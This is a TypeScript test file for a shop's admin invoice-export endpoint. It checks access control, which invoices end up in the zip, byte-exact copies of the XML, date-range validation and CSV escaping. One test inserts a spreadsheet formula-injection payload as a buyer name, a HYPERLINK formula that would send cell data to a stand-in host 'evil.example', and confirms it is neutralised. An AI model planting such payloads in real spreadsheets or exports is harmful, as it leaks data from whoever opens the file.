// The accountant's zip (docs/decisions/247-invoice-copy-and-export.md): every invoice and credit
// note issued over a range of Italy's days, each XML as issued, and an index CSV whose cells a
// spreadsheet never runs; a range backwards, of impossible days or over a year is refused.
import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { INVOICES_INDEX_COLUMNS } from '../../contract/invoices.js';
import { invoices, orders } from '../../server/db/schema.js';
import { csvText, parseCsv } from '../../server/domain/admin-catalogue/csv-parse.js';
import { INDEX_FILE_NAME } from '../../server/domain/invoices/export.js';
import { unzipStored } from '../../server/domain/invoices/zip-read.js';
import { expectStaffOnly, staffSignIn } from './admin-fixtures.js';
import { actOk, placeOrder } from './admin-order-fixtures.js';
import { INVOICE } from './address-fixtures.js';
import { bearer, signUpOk } from './auth-fixtures.js';
import { cartApiSuite } from './cart-fixtures.js';
import { expectError } from './harness.js';

const { api } = cartApiSuite({ env: { AUTH_RATE_PER_EMAIL: '10000', AUTH_RATE_PER_CLIENT: '10000', WRITE_RATE_PER_CLIENT: '100000', WRITE_RATE_PER_ACCOUNT: '100000' } });

const SHIP = { carrier: 'brt', trackingNumber: 'BRT 1' };
const exportPath = (from: string, to: string) => `/v1/admin/invoices/export?from=${from}&to=${to}`;

/** An order asking for an invoice (from `name`), shipped: its invoice issued, then dated `day`. */
async function invoicedOn(token: string, day: string, name = INVOICE.invoice.name) {
  const placed = await placeOrder(api, { payment: 'mark' });
  const checkout = structuredClone(placed.row.checkout);
  checkout.addresses.billing = { ...checkout.addresses.billing, ...INVOICE, invoice: { ...INVOICE.invoice, name } };
  await api.db.update(orders).set({ checkout }).where(eq(orders.id, placed.orderId));
  await actOk(api, token, placed.orderId, 'ship', SHIP);
  // The day of issue moved to the one the test needs (the file's Data is not what is looked at).
  await api.db.update(invoices).set({ issuedOn: day }).where(eq(invoices.orderId, placed.orderId));
  const rows = await api.db.select().from(invoices).where(eq(invoices.orderId, placed.orderId));
  return { ...placed, invoices: rows };
}

async function exportedZip(token: string, from: string, to: string) {
  const res = await api.fetch(exportPath(from, to), bearer(token));
  const bytes = new Uint8Array(await res.arrayBuffer());
  expect(res.status, new TextDecoder().decode(bytes.slice(0, 300))).toBe(200);
  expect(res.headers.get('content-type')).toBe('application/zip');
  expect(res.headers.get('content-disposition')).toBe(`attachment; filename="fatture-${from}-${to}.zip"`);
  const files = unzipStored(bytes);
  const index = files.find((f) => f.name === INDEX_FILE_NAME);
  expect(index, 'the index is in the zip').toBeDefined();
  const parsed = parseCsv(new TextDecoder().decode(index!.data));
  if (!parsed.ok) throw new Error(`not CSV: ${parsed.problem}`);
  const [header, ...rows] = parsed.records.map((r) => r.fields);
  return { files, header: header!, rows: rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))) };
}

describe('GET admin/invoices/export', () => {
  it('answers nobody but the staff: signed out and a customer 401', async () => {
    await expectStaffOnly(api, exportPath('2026-01-01', '2026-01-31'));
    await expectError(await api.fetch(exportPath('2026-01-01', '2026-01-31')), 401, 'AUTH_REQUIRED');
    const customer = await signUpOk(api);
    expect((await api.fetch(exportPath('2026-01-01', '2026-01-31'), bearer(customer.token))).status).toBe(401);
  });

  it('holds exactly the files issued in the range, each byte for byte as stored, and their index', async () => {
    const staff = await staffSignIn(api);
    const before = await invoicedOn(staff.token, '2025-02-28');
    const first = await invoicedOn(staff.token, '2025-03-01');
    const refundedOne = await invoicedOn(staff.token, '2025-03-15');
    await actOk(api, staff.token, refundedOne.orderId, 'refund', { amount: 700, restock: false });
    await api.db.update(invoices).set({ issuedOn: '2025-03-31' }).where(eq(invoices.kind, 'TD04'));
    const after = await invoicedOn(staff.token, '2025-04-01');

    const { files, header, rows } = await exportedZip(staff.token, '2025-03-01', '2025-03-31');
    const inRange = await api.db.select().from(invoices).where(eq(invoices.shopId, 'raggio'))
      .then((all) => all.filter((i) => i.issuedOn >= '2025-03-01' && i.issuedOn <= '2025-03-31').sort((a, b) => a.year - b.year || a.number - b.number));
    expect(inRange.map((i) => i.kind)).toEqual(['TD01', 'TD01', 'TD04']);
    expect(files.map((f) => f.name)).toEqual([...inRange.map((i) => i.fileName), INDEX_FILE_NAME]);
    for (const invoice of inRange) {
      const file = files.find((f) => f.name === invoice.fileName)!;
      expect(Buffer.from(file.data).equals(Buffer.from(invoice.xml, 'utf8')), `${invoice.fileName} as stored`).toBe(true);
    }
    const names = files.map((f) => f.name);
    for (const outside of [...before.invoices, ...after.invoices]) expect(names).not.toContain(outside.fileName);

    expect(header).toEqual([...INVOICES_INDEX_COLUMNS]);
    const note = inRange[2]!;
    expect(rows).toEqual(inRange.map((i) => ({
      number: String(i.number), year: String(i.year), kind: i.kind, date: i.issuedOn,
      order_number: i.orderId === first.orderId ? first.row.number : refundedOne.row.number,
      buyer: INVOICE.invoice.name, buyer_vat_number: `IT${INVOICE.invoice.vatnumber}`, total: (i.total / 100).toFixed(2), file_name: i.fileName,
    })));
    expect(note).toMatchObject({ kind: 'TD04', total: 700, orderId: refundedOne.orderId });

    // A range with nothing issued is an archive with the index alone.
    const empty = await exportedZip(staff.token, '2024-01-01', '2024-12-31');
    expect(empty.files.map((f) => f.name)).toEqual([INDEX_FILE_NAME]);
    expect(empty.rows).toEqual([]);
  });

  it('writes a buyer named like a formula as text, read back as it was', async () => {
    const staff = await staffSignIn(api);
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    await invoicedOn(staff.token, '2025-06-10', evil);
    const { rows } = await exportedZip(staff.token, '2025-06-10', '2025-06-10');
    const raw = rows[0]!.buyer!;
    expect(raw.startsWith("'")).toBe(true);
    expect(csvText(raw)).toBe(evil);
  });

  it('refuses a day not of the calendar, a range backwards and one over 366 days, with 400', async () => {
    const staff = await staffSignIn(api);
    for (const [from, to] of [['2025-02-30', '2025-03-01'], ['2025-13-01', '2025-12-31'], ['yesterday', '2025-01-01'], ['2025-03-02', '2025-03-01'], ['2024-01-01', '2025-01-01']]) {
      await expectError(await api.fetch(exportPath(from!, to!), bearer(staff.token)), 400, 'VALIDATION_ERROR');
    }
    await expectError(await api.fetch('/v1/admin/invoices/export?from=2025-01-01', bearer(staff.token)), 400, 'VALIDATION_ERROR');
    // 366 days counting both ends, a leap year's whole, is taken.
    expect((await api.fetch(exportPath('2024-01-01', '2024-12-31'), bearer(staff.token))).status).toBe(200);
  });
});
